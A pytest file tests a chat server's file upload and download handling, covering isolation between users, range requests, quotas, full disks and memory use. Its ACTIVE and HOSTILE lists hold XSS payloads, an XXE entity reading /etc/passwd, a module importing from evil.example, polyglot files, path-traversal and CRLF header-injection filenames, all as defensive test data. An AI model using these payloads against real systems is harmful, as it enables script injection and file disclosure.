"""Files from a client's socket to the disk and back: two users, hostile contents, hostile names, full disks."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import resource
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import quote

import pytest

from parlance.testing.servers import Server, as_process, loaded, running
from tests.flows.callers import Answer, Caller, key_toml, measured, resident_kib, until
from tests.unit.transports.small import Raw, request

ADA_KEY, BOB_KEY, FAR_KEY = "sk-ada-00000000000000000", "sk-bob-00000000000000000", "sk-far-00000000000000000"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100)
MEBIBYTE = 1024 * 1024
KEYS = (
    key_toml(ADA_KEY, "ada-key", "ada")
    + key_toml(BOB_KEY, "bob-key", "bob", scopes=["all"])
    + key_toml(FAR_KEY, "far-key", "ada", "faraway")
)


class Stage(NamedTuple):
    """A server with two users, and one called like the first in another tenant."""

    server: Server
    ada: Caller
    bob: Caller
    far: Caller


@pytest.fixture
async def stage(tmp_path: Path) -> AsyncIterator[Stage]:
    flags = {"files.user_quota_mb": 20, "files.max_size_mb": 10}
    async with running(loaded(tmp_path, toml=KEYS, flags=flags)) as server:
        yield Stage(server, *(Caller(server.port, key) for key in (ADA_KEY, BOB_KEY, FAR_KEY)))


async def upload(caller: Caller, data: bytes, name: str = "notes.txt", **headers: str) -> Answer:
    """One upload."""
    client = await Raw.to(caller.port)
    try:
        head = f"POST /parlance/v1/files.upload?name={quote(name)}"
        status, answered, body = await client.ask(
            head, data, **{**caller.headers, "content_type": "text/html", **headers}
        )
        return Answer(status, answered, body)
    finally:
        client.fin()


def begun(name: str, length: int, **headers: str) -> bytes:
    """The head of Ada's upload of so many bytes."""
    headers = {"authorization": f"Bearer {ADA_KEY}", "content-length": str(length), **headers}
    return request(f"POST /parlance/v1/files.upload?name={name}", b"", **headers)


async def kept(caller: Caller, data: bytes, name: str = "notes.txt") -> str:
    """The id of a file that was taken."""
    answer = await upload(caller, data, name)
    assert answer.status == 201, answer.body
    return str(answer.json["id"])


async def content(caller: Caller, id: str, query: str = "", /, **headers: str) -> Answer:
    """What a client gets of a file's content."""
    return await caller.ask(f"GET /parlance/v1/files/{id}/content{query}", **headers)


async def content_head(caller: Caller, id: str) -> Answer:
    """What it gets without the content."""
    client = await caller.raw(f"HEAD /parlance/v1/files/{id}/content")
    answer = Answer(*await client.answer(body=False))
    client.fin()
    return answer


async def usage(caller: Caller) -> dict[str, Any]:
    """What the caller's files take."""
    return dict((await caller.ask("GET /parlance/v1/files.usage")).json["own"])


async def test_a_file_goes_in_and_comes_back(stage: Stage) -> None:
    """Its name, size, hash and real type are told; what the sender calls it is kept and not believed."""
    data = b"Hello, files!\n" * 1000
    answer = await upload(stage.ada, data, "Grüße.txt")
    told = answer.json
    assert (answer.status, told["name"], told["size"]) == (201, "Grüße.txt", len(data))
    assert (told["media_type"], told["declared"], told["kind"]) == ("text/plain", "text/html", "text")
    assert told["sha256"] == hashlib.sha256(data).hexdigest()
    found = await content(stage.ada, told["id"])
    assert (found.status, found.body) == (200, data)
    assert found.headers["content-length"] == str(len(data)) and found.headers["etag"] == f'"{told["sha256"]}"'
    listed = (await stage.ada.ask("GET /parlance/v1/files.list")).json
    assert listed["files"] == [told]
    assert (await stage.ada.ask(f"GET /parlance/v1/files.read?file={told['id']}")).json == told
    assert await usage(stage.ada) == {"used": len(data), "reserved": 0, "files": 1, "limit": 20 * MEBIBYTE}
    assert (await stage.ada.ask("POST /parlance/v1/files.delete", {"file": told["id"]})).status == 204
    assert (await content(stage.ada, told["id"])).status == 404
    assert (await usage(stage.ada))["used"] == 0
    assert [path for path in (stage.server.folder / "data" / "blobs").rglob("*") if path.is_file()] == []


async def test_a_file_of_somebody_else_cannot_be_told_from_none(stage: Stage) -> None:
    """By no route, for another user who is an admin, and for the same name in another tenant; nothing changes."""
    mine = await kept(stage.ada, b"mine")
    for stranger in (stage.bob, stage.far):
        for id in (mine, mine[:-4] + "0000"):
            answers = [
                await content(stranger, id),
                await content(stranger, id, range="bytes=0-1"),
                await content_head(stranger, id),
                await stranger.ask(f"GET /parlance/v1/files.read?file={id}"),
                await stranger.ask("POST /parlance/v1/files.delete", {"file": id}),
                await stranger.ask("POST /parlance/v1/chats.send", {"text": "Read it", "files": [id]}),
            ]
            assert [answer.status for answer in answers] == [404] * 6
            assert all(not answer.body or answer.json["code"] == "file_not_found" for answer in answers)
        assert (await stranger.ask("GET /parlance/v1/files.list")).json["files"] == []
        assert (await usage(stranger))["used"] == 0
    assert (await content(stage.ada, mine)).body == b"mine"
    nobody = Caller(stage.server.port, "sk-nobody")
    assert [(await content(nobody, mine)).status, (await upload(nobody, b"x")).status] == [401, 401]


async def test_parts_of_a_content_come_as_they_are_asked_for(stage: Stage) -> None:
    """One range; several are the whole; thousands are refused; validators are honoured."""
    data = bytes(range(256)) * 4000
    id = await kept(stage.ada, data)
    tag = f'"{hashlib.sha256(data).hexdigest()}"'
    part = await content(stage.ada, id, range="bytes=1000-1999")
    assert (part.status, part.body) == (206, data[1000:2000])
    assert part.headers["content-range"] == f"bytes 1000-1999/{len(data)}"
    tail = await content(stage.ada, id, range="bytes=-5")
    assert (tail.status, tail.body) == (206, data[-5:])
    assert (await content(stage.ada, id, range="bytes=0-1,5-6")).body == data
    refused = await content(stage.ada, id, range="bytes=" + ",".join(f"{n}-{n}" for n in range(2000)))
    assert refused.status == 416 and refused.headers["content-range"] == f"bytes */{len(data)}"
    assert (await content(stage.ada, id, range="bytes=5000000-")).status == 416
    assert (await content(stage.ada, id, **{"if-none-match": tag})).status == 304
    assert (await content(stage.ada, id, range="bytes=0-9", **{"if-range": '"other"'})).status == 200
    head = await content_head(stage.ada, id)
    assert (head.status, head.headers["content-length"], head.body) == (200, str(len(data)), b"")
    empty = await kept(stage.ada, b"")
    assert (await content(stage.ada, empty)).body == b""


ACTIVE: dict[str, bytes] = {
    "page.html": b"<!DOCTYPE html><script>fetch('/parlance/v1/files.list')</script>",
    "page.htm": b"\xef\xbb\xbf<html><body onload=alert(1)>",
    "fragment.txt": b"<script>alert(1)</script>",
    "spaces.txt": b" \n\t\r <iframe src=javascript:alert(1)>",
    "comment.txt": b"<!-- --><img src=x onerror=alert(1)>",
    "upper.HTML": b"<HTML><SCRIPT>alert(1)</SCRIPT>",
    "form.html": b"<form action=/parlance/v1/files.delete method=post><input name=file>",
    "meta.html": b"<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "style.html": b"<style>@import 'javascript:alert(1)'</style>",
    "anchor.html": b"<a href=javascript:alert(1)>x</a>",
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "xmldrawing.svg": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "doctype.svg": b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
    "picture.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "feed.xml": b"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></x>",
    "page.xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    "sheet.xsl": b"<?xml-stylesheet type='text/xsl' href='#'?><xsl:stylesheet/>",
    "math.mml": b"<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "code.js": b"alert(document.cookie)",
    "module.mjs": b"import 'https://evil.example/x.js'",
    "worker.js": b"self.onfetch = e => e.respondWith(new Response('x'))",
    "jsonp.json": b'alert({"a": 1})',
    "data.json": b'{"__proto__": {"x": 1}}',
    "sheet.css": b"body{background:url(javascript:alert(1))}",
    "book.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "polyglot.gif": b"GIF89a/*<script>*/=alert(1)//</script>",
    "polyglot.jpg": b"\xff\xd8\xff\xe0<script>alert(1)</script>",
    "polyglot.png": PNG + b"<script>alert(1)</script>",
    "polyglot.webp": b"RIFF\x00\x00\x00\x00WEBPVP8 <script>alert(1)</script>",
    "archive.mht": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "flash.swf": b"FWS\x09\x00\x00\x00\x00",
    "module.wasm": b"\x00asm\x01\x00\x00\x00",
    "applet.jar": b"PK\x03\x04\x14\x00\x08\x00META-INF/",
    "utf16.html": "<script>alert(1)</script>".encode("utf-16"),
    "utf7.html": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "run.exe": b"MZ\x90\x00\x03",
}
VARIANTS = ("", "?download", "?download=0&type=text/html", "range")
SHOWN = {"image/png", "image/jpeg", "image/gif", "image/webp", "text/plain; charset=utf-8"}


async def test_nothing_that_is_uploaded_can_act_in_our_origin(stage: Stage) -> None:
    """36 active files, each asked for in every way, by a client that declared it as a page. Promise P26."""
    assert len(ACTIVE) == 36
    for name, data in ACTIVE.items():
        id = await kept(stage.ada, data, name)
        for variant in VARIANTS:
            headers = {"range": "bytes=0-99", "accept": "text/html"} if variant == "range" else {"accept": "text/html"}
            answer = await content(stage.ada, id, "" if variant == "range" else variant, **headers)
            told, what = answer.headers, (name, variant)
            assert answer.status in (200, 206), what
            assert answer.body == (data[:100] if variant == "range" else data), what
            assert told["x-content-type-options"] == "nosniff", what
            assert told["content-security-policy"] == "sandbox; default-src 'none'", what
            assert told["cross-origin-resource-policy"] == "same-origin", what
            assert told["cache-control"] == "private, no-store", what
            inline = told["content-disposition"].startswith("inline;")
            assert told["content-type"] in (SHOWN if inline else {*SHOWN, "application/octet-stream"}), what
            if told["content-type"].startswith("text/plain") and inline:
                assert not data.strip(b" \n\t\r\xef\xbb\xbf").startswith(b"<"), what
            if variant.startswith("?download"):
                assert not inline, what


HOSTILE = [
    "../../../../tmp/escaped.txt",
    "..\\..\\escaped.txt",
    "/etc/cron.d/escaped",
    "C:\\Windows\\escaped.txt",
    "a/../../b.txt",
    "\x7f\x1b[31mred.txt",
    "a\r\nSet-Cookie: stolen=1.txt",
    'a"; filename="other.exe',
    "CON",
    ".htaccess",
    "invoice\u202efdp.exe",
    "x" * 255,
    "💣.txt",
    "%2e%2e%2fescaped.txt",
]


async def test_a_hostile_name_stays_a_name(stage: Stage) -> None:
    """Nothing outside the folder of blobs changes, no header breaks, and the name is given back as it was."""
    data = stage.server.folder / "data"
    before = {path for path in data.rglob("*") if "blobs" not in path.parts}
    for name in HOSTILE:
        id = await kept(stage.ada, b"x", name)
        told = (await stage.ada.ask(f"GET /parlance/v1/files.read?file={id}")).json
        answer = await content(stage.ada, id, "?download")
        assert told["name"] == name
        assert "set-cookie" not in answer.headers
        assert answer.headers["content-disposition"].startswith('attachment; filename="')
    assert {path for path in data.rglob("*") if "blobs" not in path.parts} == before
    assert all(len(path.name) == 36 for path in (data / "blobs").rglob("*") if path.is_file())
    assert not list(stage.server.folder.parent.rglob("*escaped*"))


async def test_what_does_not_fit_is_refused_before_a_byte_of_it_is_read(stage: Stage) -> None:
    """A client that waits for `100 Continue` is told so, and never sends it."""
    for length, status, code in ((10 * MEBIBYTE + 1, 413, "file_too_large"), (1 << 50, 413, "body_too_large")):
        client = await Raw.to(stage.server.port)
        await client.send(begun("big", length, expect="100-continue"))
        answered, _, body = await client.answer()
        assert (answered, json.loads(body)["code"]) == (status, code)
        client.fin()
    assert await usage(stage.ada) == {"used": 0, "reserved": 0, "files": 0, "limit": 20 * MEBIBYTE}


async def test_64_uploads_at_once_never_take_more_than_there_is(tmp_path: Path) -> None:
    """Each a tenth of the room; exact afterwards, and after every deletion. Promise P16."""
    size = 400_000
    flags = {"files.user_quota_mb": 10 * size / MEBIBYTE, "files.tenant_quota_mb": 10 * size / MEBIBYTE}
    async with running(loaded(tmp_path, toml=KEYS, flags=flags)) as server:
        ada = Caller(server.port, ADA_KEY)
        answers = await asyncio.gather(*(upload(ada, os.urandom(size)) for _ in range(64)))
        taken = [answer.json for answer in answers if answer.status == 201]
        assert len(taken) == 10
        assert {answer.json["code"] for answer in answers if answer.status != 201} == {"no_room"}
        assert await usage(ada) == {"used": 10 * size, "reserved": 0, "files": 10, "limit": 10 * size}
        await asyncio.gather(*(ada.ask("POST /parlance/v1/files.delete", {"file": one["id"]}) for one in taken))
        assert await usage(ada) == {"used": 0, "reserved": 0, "files": 0, "limit": 10 * size}


async def test_a_client_that_hangs_up_gives_its_room_back(stage: Stage) -> None:
    """With a reset, and politely; neither bytes nor a reservation stay."""
    for leave in (Raw.rst, Raw.fin):
        client = await Raw.to(stage.server.port)
        await client.send(begun("half", 9 * MEBIBYTE) + bytes(MEBIBYTE))
        await eventually(stage.ada, 9 * MEBIBYTE)
        leave(client)
        await eventually(stage.ada, 0)
    blobs = stage.server.folder / "data" / "blobs"
    await until(lambda: not [path for path in blobs.rglob("*") if path.is_file()])


async def eventually(caller: Caller, reserved: int) -> None:
    """Wait until so many bytes are reserved."""
    async with asyncio.timeout(20):
        while (await usage(caller))["reserved"] != reserved:
            await asyncio.sleep(0.01)


async def test_an_admin_sees_the_room_of_all_and_of_the_disk(stage: Stage) -> None:
    """And everybody else their own."""
    await kept(stage.ada, b"12345")
    told = (await stage.bob.ask("GET /parlance/v1/files.usage")).json
    assert told["tenant"] == {"used": 5, "reserved": 0, "files": 1, "limit": None}
    assert told["disk_free"] > 0 and told["own"]["used"] == 0
    assert set((await stage.ada.ask("GET /parlance/v1/files.usage")).json) == {"own"}
    metrics = (await stage.bob.ask("GET /metrics")).body
    assert b"parlance_blobs_free_bytes" in metrics


# -- a process of its own ---------------------------------------------------------------------------------------------


@pytest.fixture
def process(tmp_path: Path) -> Iterator[Server]:
    with as_process(tmp_path, toml=KEYS) as server:
        yield server


async def test_an_upload_of_200_mb_costs_no_memory(process: Server) -> None:
    """It is on the disk as it was sent, and was never whole in memory; nor is it when it is sent back."""
    assert process.process is not None
    ada = Caller(process.port, ADA_KEY)
    id = await kept(ada, os.urandom(MEBIBYTE))  # what is imported and made on first use is there now
    assert (await content(ada, id)).status == 200
    before = resident_kib(process.process.pid)
    size, piece = 200 * MEBIBYTE, os.urandom(MEBIBYTE)
    client = await Raw.to(process.port)
    await client.send(begun("large.bin", size))
    most = before
    for _ in range(200):
        await client.send(piece)
        most = max(most, resident_kib(process.process.pid))
    async with asyncio.timeout(60):
        status, _, body = await client.answer()
    told = json.loads(body)
    assert (status, told["sha256"]) == (201, hashlib.sha256(piece * 200).hexdigest())
    got, hashed = 0, hashlib.sha256()
    await client.send(request(f"GET /parlance/v1/files/{told['id']}/content", authorization=f"Bearer {ADA_KEY}"))
    await client.until(b"\r\n\r\n")
    while got < size:
        data = await client.reader.read(MEBIBYTE)
        assert data
        got += len(data)
        hashed.update(data)
        most = max(most, resident_kib(process.process.pid))
    assert hashed.hexdigest() == told["sha256"]
    measured("200 MB upload and download", rss_growth_mib=round((most - before) / 1024, 1))
    assert most - before < 20 * 1024


async def test_a_full_disk_and_too_many_open_files_are_typed_answers_and_heal(process: Server) -> None:
    """Whatever is refused is given back, and the next upload succeeds when there is room. Promise P04."""
    assert process.process is not None
    pid = process.process.pid
    ada = Caller(process.port, ADA_KEY)
    await kept(ada, PNG)
    for limit, most, status, code in (
        (resource.RLIMIT_FSIZE, 4 * MEBIBYTE, 507, "disk_full"),
        (resource.RLIMIT_NOFILE, 3, 503, "too_many_open_files"),
    ):
        client = await Raw.to(process.port)
        key = f"Bearer {ADA_KEY}"
        assert (await client.ask("GET /parlance/v1/files.usage", authorization=key))[0] == 200
        soft, hard = resource.prlimit(pid, limit)
        resource.prlimit(pid, limit, (most, hard))
        try:
            path = "POST /parlance/v1/files.upload?name=x"
            answered, _, body = await client.ask(path, bytes(8 * MEBIBYTE), authorization=key)
            problem = json.loads(body)
            assert (answered, problem.get("code")) == (status, code), problem
            assert str(process.folder) not in body.decode() and problem["retry_after"] > 0
        finally:
            resource.prlimit(pid, limit, (soft, hard))
        client.fin()
        await eventually(ada, 0)
        await kept(ada, bytes(8 * MEBIBYTE))
    assert (await usage(ada))["used"] == len(PNG) + 16 * MEBIBYTE
    assert (await content(ada, await kept(ada, b"fine"))).body == b"fine"
